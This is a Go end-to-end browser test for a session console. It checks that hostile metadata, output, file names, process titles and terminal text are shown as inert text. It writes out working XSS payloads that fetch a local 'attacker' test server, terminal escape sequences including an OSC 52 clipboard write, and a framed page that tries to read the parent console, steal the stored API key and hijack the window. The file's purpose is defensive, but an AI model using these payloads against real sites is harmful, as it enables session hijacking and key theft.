// Copyright (c) The Buntime Authors
// SPDX-License-Identifier: MPL-2.0

package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
)

// attacker is who a script that runs would call.
type attacker struct {
	*httptest.Server
	mu    sync.Mutex
	calls []string
}

func newAttacker(t *testing.T) *attacker {
	a := &attacker{}
	a.Server = httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		a.mu.Lock()
		defer a.mu.Unlock()
		a.calls = append(a.calls, r.URL.Path)
	}))
	t.Cleanup(a.Close)
	return a
}

func (a *attacker) called() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.calls
}

// markup is text that runs a script wherever it is taken for a page's.
func (a *attacker) markup(where string) []string {
	call := fmt.Sprintf(`window.pwned='%s';fetch('%s/%s')`, where, a.URL, where)
	return []string{
		`<script>` + call + `</script>`,
		`<img src=x onerror="` + call + `">`,
		`"><svg onload="` + call + `">`,
		`<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
		`<a href="javascript:` + call + `">click</a>`,
		`<img src="` + a.URL + "/" + where + `.png">`,
		`<style>@import "` + a.URL + "/" + where + `.css"</style>`,
		"\u202egnp.exe\u2066\u200b\x1b]0;title of the attacker\x07\x1b]8;;javascript:alert(1)\x1b\\link\x1b]8;;\x1b\\\x1b]52;c;cHduZWQ=\x07\u009b31m\b\b\x00",
	}
}

// consoleHostile fills a session with markup and control characters wherever the console
// shows something of it. Nothing of that runs, or is anything but text.
func consoleHostile(t *testing.T, browser context.Context) {
	ctx := deadline(t, 2*usual)
	a := newAttacker(t)
	api := ownAccount(t, ctx, "console-hostile")
	meta := M{}
	for i, text := range a.markup("metadata") {
		meta[fmt.Sprintf("%d%s", i, strings.ReplaceAll(text, "\x00", ""))] = text
	}
	s := createSession(t, ctx, api, M{"metadata": meta})

	x := newTab(t, browser)
	x.signIn(api.Key)
	title := eval[string](x, "document.title")
	x.sees("td .metadata", "<script>")
	x.click("td.id a")
	x.sees("h1", s.id)

	// Output.
	x.code("const text = " + raw(a.markup("output")) + `; for (const t of text) { console.log(t); console.error(t); } process.stdout.write("\x1b[");`)
	x.click("#run")
	x.sees("#output .note", "exit code 0")
	x.sees("#output .stdout", "<script>window.pwned")
	x.sees("#output .stdout", "⟨202E⟩gnp.exe") // it is shown, and turns nothing round
	x.sees("#output .stdout", "⟨1B⟩]52;")

	// More of it than can be drawn.
	x.code(`for (let i = 0; i < 150000; i++) console.log("\x1b[3" + (i % 8) + "mline", i, "x".repeat(60)); console.log("the last")`)
	x.click("#run")
	x.sees("#output .note", "are left out here")
	x.sees("#output", "the last")
	x.until("what is kept has its bounds", `document.querySelector("#output").textContent.length < 400000 && document.querySelector("#output").childNodes.length < 5000`)

	// A server that tries to get out of its frame, with a title that is one too.
	s.background(escapeServer())
	x.click("#preview")
	var got map[string]string
	eventually(t, ctx, "what the page in the frame has come to", usual, func() (bool, string) {
		r := s.fetch("/report")
		return json.Unmarshal(r.Body, &got) == nil && got["done"] != "", string(r.Body)
	})
	for what, came := range got {
		if what != "done" && !strings.HasPrefix(came, "refused") {
			t.Errorf("the preview's page: %s: %s", what, came)
		}
	}
	contains(t, "where the console is", eval[string](x, "location.href"), system.base+"/console#/sessions/"+s.id)

	// File names, directories among them, and what they say of processes.
	names := raw(a.markup("file"))
	s.print(`const fs = require("fs"); for (const n of ` + names + `) { const name = n.replaceAll("/", "∕").replaceAll("\0", ""); fs.writeFileSync(name, n); fs.mkdirSync("d" + name); }`)
	s.execute(M{"command": `bash -c 'exec -a "$0" sleep 300' "$TITLE" &`, "env": M{"TITLE": a.markup("process")[1]}})
	x.click("#tab-files")
	x.sees(".files td", "<script>")
	x.sees(".files td", "⟨202E⟩gnp.exe")
	x.do(chromedp.Click(`//button[contains(., "d<script>")]`))
	x.sees(".files", "Nothing is in here.")
	x.click("#tab-processes")
	x.sees(".command", "<img src=x onerror=")

	x.click("#tab-details")
	x.sees(".metadata-full", "<svg onload=")

	// A terminal.
	x.click("#tab-terminal")
	x.click("#connect")
	x.do(chromedp.WaitVisible(chromedp.CSS(".xterm-rows")))
	x.until("the terminal has the focus", `document.activeElement.matches(".xterm-helper-textarea")`)
	// What it is asked, it does not answer: cat would show that, and a shell run it.
	s.write("hostile.txt", strings.Join(a.markup("terminal"), "\r\n")+"\x1b[21t\x1bP$qm\x1b\\\x1b]1337;File=name=eA==;inline=1:eA==\x07\x1b[8;2;2t\r\n"+"the end of it\r\n")
	x.paste("cat hostile.txt; sleep 0.2; echo o''ver")
	x.press(kb.Enter)
	x.sees(".xterm-rows", "the end of it")
	x.sees(".xterm-rows", "over")
	x.until("no link is there", `!document.querySelector(".screen a, .xterm-hover")`)
	x.until("it has answered nothing", `!document.querySelector(".xterm-rows").innerText.includes("$r")`)
	x.picture("terminal")
	x.click("#tab-run")
	x.picture("run")

	found := eval[struct {
		Pwned, Title string
		Elements     int
	}](x, `({
		Pwned: String(window.pwned ?? ""), Title: document.title,
		Elements: document.querySelectorAll("img:not(.cm-widgetBuffer), svg:not(.logo, .sparkline, .bars), #app script, #app link, iframe[srcdoc], a[href^='javascript:'], [onerror], [onload]").length,
	})`)
	equal(t, "what a script has left", found.Pwned, "")
	equal(t, "title", found.Title, title)
	equal(t, "elements of the session's making", found.Elements, 0)
	if calls := a.called(); len(calls) > 0 {
		t.Errorf("the attacker was called: %q", calls)
	}
}

// escapeArtist is a page that tries what it can from within a frame, and reports.
const escapeArtist = `<!doctype html><title>javascript:alert(1)</title><h1>free</h1><script>
	const API = "{API}";
	const tries = {
		"reads the console": () => parent.document.body.innerText,
		"runs in the console": () => parent.eval("1"),
		"reads the key": () => parent.sessionStorage.getItem("buntime.key"),
		"takes the window": () => { top.location = "about:blank#taken"; throw new Error("nothing happened") },
		"opens a window": () => { if (!window.open("about:blank")) throw new Error("no window"); },
		"asks": () => { if (!confirm("your key, please")) throw new Error("not shown"); },
		"uses the API": async () => (await fetch(API + "/sessions", { credentials: "include" })).status,
		"reads the page": async () => (await fetch(API + "/console")).text(),
	};
	const tell = (what, came) => fetch("/report", { method: "POST", body: JSON.stringify({ [what]: came }) });
	(async () => {
		for (const [what, act] of Object.entries(tries)) {
			let came;
			try { came = "done: " + await act(); } catch (e) { came = "refused: " + e; }
			await tell(what, came);
		}
		parent.postMessage({ type: "exit", key: 1 }, "*");
		await tell("done", "yes");
	})();
</script>`

// escapeServer serves it.
func escapeServer() string {
	return "const page = " + quote(strings.ReplaceAll(escapeArtist, "{API}", system.base)) + `;
		const report = {};
		Bun.serve({
			port: 8080,
			async fetch(req) {
				if (new URL(req.url).pathname !== "/report") return new Response(page, { headers: { "content-type": "text/html" } });
				if (req.method === "POST") Object.assign(report, await req.json());
				return Response.json(report);
			},
		});`
}
